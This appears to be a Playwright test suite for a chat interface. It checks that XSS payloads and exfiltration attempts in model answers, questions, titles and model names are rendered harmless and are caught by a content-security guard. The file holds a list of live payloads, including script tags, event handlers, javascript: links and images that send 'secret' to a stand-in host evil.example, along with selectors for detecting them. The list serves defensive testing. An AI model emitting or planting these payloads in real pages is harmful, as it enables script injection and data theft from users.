import { finish, says, script } from "./provider";
import { expect, openScripted, test } from "./test";

/** Text that a model was talked into writing. The guard of every test sees requests, dialogs and violations. */
const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  "[a](javascript:alert(1))",
  "[a](JaVaScRiPt&#58;alert(1))",
  "[a](data:text/html;base64,PHNjcmlwdD4=)",
  "[a](vbscript:msgbox)",
  "[a](//evil.example)",
  "![x](https://evil.example/p.png?q=secret)",
  "![x](//evil.example/p.png?q=secret)",
  '<img src="https://evil.example/p?q=secret">',
  "![x][r]",
  "[r]: https://evil.example/r",
  "<style>@import url(https://evil.example/s)</style>",
  "<form action=https://evil.example><button>Go</button></form>",
  '<link rel="stylesheet" href="https://evil.example/s.css"><base href="https://evil.example/">',
  '<"onmouseover=alert(1)"@evil.example> "onmouseover=alert(1)"@evil.example',
  "| a |\n|---|\n| ![x](https://evil.example/t.png) |",
  "- ![x](https://evil.example/l.png)",
  "> <img src=https://evil.example/q.png>",
  "```html\n<script>alert(1)</script>\n<img src=https://evil.example/c.png>\n```",
  "# ![x](https://evil.example/h.png)",
  "The end.",
].join("\n\n");

/** What a link of the page may be. */
const expectHarmless = async (place: import("@playwright/test").Locator) => {
  const links = await place.locator("a").evaluateAll((all) =>
    all.map((link) => {
      const { protocol, target, rel } = link as HTMLAnchorElement;
      return { protocol, target, rel };
    }),
  );
  for (const { protocol, target, rel } of links) {
    expect(["http:", "https:", "mailto:"]).toContain(protocol);
    if (target) expect(rel).toMatch(/noopener|noreferrer/);
  }
  const active =
    "script, iframe, object, embed, form, style, link, base, meta, svg[onload], [onerror], [onload], [onmouseover]";
  await expect(place.locator(active)).toHaveCount(0);
  await expect(place.locator('img:not([src^="data:"])')).toHaveCount(0);
};

test("an answer that streams letter by letter reaches nobody and runs nothing", async ({
  api,
  chat,
  page,
}) => {
  const letters = [...HOSTILE].flatMap((letter) => [says(letter), { delay: 0.006 }]);
  const { chatId } = await openScripted({ api, chat }, [...letters, ...finish()]);
  await chat.send("Be evil.");
  await chat.expectSettled();
  await expect(chat.answer).toContainText("The end.");
  await expectHarmless(chat.answer);
  expect((await api.messages(chatId))[1]?.content).toBe(HOSTILE);
  await page.reload();
  await expect(chat.answer).toContainText("The end.");
  await expectHarmless(chat.answer);
});

test("a question, a title and a model of the same kind do not either", async ({
  api,
  chat,
  page,
}) => {
  const model = "<img src=https://evil.example/m.png onerror=alert(1)>";
  await script([says("Fine."), ...finish()], { model });
  const title = "<img src=https://evil.example/t.png onerror=alert(1)> [a](javascript:alert(1))";
  const chatId = await api.newChat(model, title);
  await chat.open(chatId);
  await chat.send(HOSTILE);
  await expect(chat.answer).toContainText("Fine.");
  await expect(chat.questions.first()).toContainText("<script>alert(1)</script>");
  await expectHarmless(chat.questions.first());
  await expect(page.getByRole("button", { name: /^Model: / })).toContainText(model);
  await expect(page.locator("main img")).toHaveCount(0);
  await expect(chat.row(title)).toHaveText(title);
  await expect(chat.sidebar.locator("img")).toHaveCount(0);
  const row = chat.sidebar.getByRole("listitem").first();
  await row.hover();
  await row.getByRole("button", { name: /^Actions for/ }).click();
  await page.getByRole("menuitem", { name: "Delete" }).click();
  await expect(page.getByRole("alertdialog")).toContainText(title);
  await expect(page.getByRole("alertdialog").locator("img")).toHaveCount(0);
});

test("what the guard looks for, it finds", async ({ guard, chat, page }) => {
  await chat.open();
  await page.evaluate(() => {
    const image = document.createElement("img");
    image.src = "https://evil.example/p.png";
    document.body.append(image);
    const script = document.createElement("script");
    script.textContent = "alert(1)";
    document.body.append(script);
    document.body.append(Object.assign(document.createElement("style"), { textContent: "p {}" }));
    void Promise.reject(new Error("planted"));
  });
  await expect.poll(() => guard.found(/img-src|evil\.example/)).toBeGreaterThan(0);
  await expect.poll(() => guard.found(/script-src/)).toBe(1);
  await expect.poll(() => guard.found(/style-src/)).toBe(1);
  await expect.poll(() => guard.found(/planted/)).toBe(1);
  expect(guard.found(/dialog/), "the policy stops the script").toBe(0);
  guard.allow(/evil\.example|img-src|script-src|style-src|planted/);
});
